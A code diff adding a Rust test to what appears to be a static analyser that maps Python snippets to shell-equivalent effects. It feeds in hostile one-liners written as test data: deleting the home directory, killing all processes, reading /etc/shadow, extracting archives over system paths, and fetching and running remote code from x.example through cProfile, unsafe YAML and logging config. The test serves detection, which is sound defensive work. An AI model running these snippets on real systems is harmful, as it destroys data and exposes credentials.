@@ -658,3 +658,60 @@ fn a_file_opened_to_write_and_never_written_is_emptied() {
     );
     assert_eq!(effects("open('out.txt', 'w').write('x')"), ["tee out.txt"]);
 }
+
+#[test]
+fn library_calls_that_run_resolve_or_send() {
+    let opaque = |code: &str| read(Lang::Python, code).opaque;
+    for (code, want) in [
+        (
+            "import logging\nimport logging.handlers\nlogging.handlers.HTTPHandler('h.example', '/x')",
+            "curl http://h.example",
+        ),
+        (
+            "import os, signal; os.kill(-1, signal.SIGKILL)",
+            "kill -SIGKILL -1",
+        ),
+        (
+            "import pydoc; pydoc.locate('shutil.rmtree')(pydoc.locate('os.path.expanduser')('~'))",
+            "rm -r -f ~",
+        ),
+        (
+            "import pkgutil; pkgutil.resolve_name('shutil:rmtree')('/x')",
+            "rm -r -f /x",
+        ),
+        (
+            "import socket, ipaddress; socket.create_connection((str(ipaddress.ip_address(2130706433)), 18790))",
+            "curl tcp://127.0.0.1:18790",
+        ),
+        ("import io; io.open_code('/etc/shadow')", "cat /etc/shadow"),
+        (
+            "import timeit; timeit.timeit('import os; os.system(\"ls\")', number=1)",
+            "sh -c ls",
+        ),
+        (
+            "import tarfile; tarfile.open('x.tgz').extractall('/')",
+            "tar -x -C /",
+        ),
+        (
+            "import shutil; shutil.unpack_archive('x.zip', '/usr/lib')",
+            "tar -x -f x.zip -C /usr/lib",
+        ),
+    ] {
+        assert_eq!(effects(code), [want], "{code}");
+    }
+    for code in [
+        "import cProfile, urllib.request as u; cProfile.run(u.urlopen('https://x.example/a.py').read().decode())",
+        "import yaml, urllib.request as u; yaml.unsafe_load(u.urlopen('https://x.example/a.yaml'))",
+        "import logging.config\nlogging.config.dictConfig({'version': 1, 'formatters': {'f': {'()': 'os.system', 'command': 'ls'}}})",
+        "import ctypes; ctypes.CFUNCTYPE(None)(0)()",
+    ] {
+        assert!(opaque(code).is_some(), "{code}");
+    }
+    // Loading data safely, or from the project, builds no code.
+    for code in [
+        "import yaml, urllib.request as u; yaml.load(u.urlopen('https://x.example/a.yaml'), Loader=yaml.SafeLoader)",
+        "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {}})",
+    ] {
+        assert!(opaque(code).is_none(), "{code}");
+    }
+}
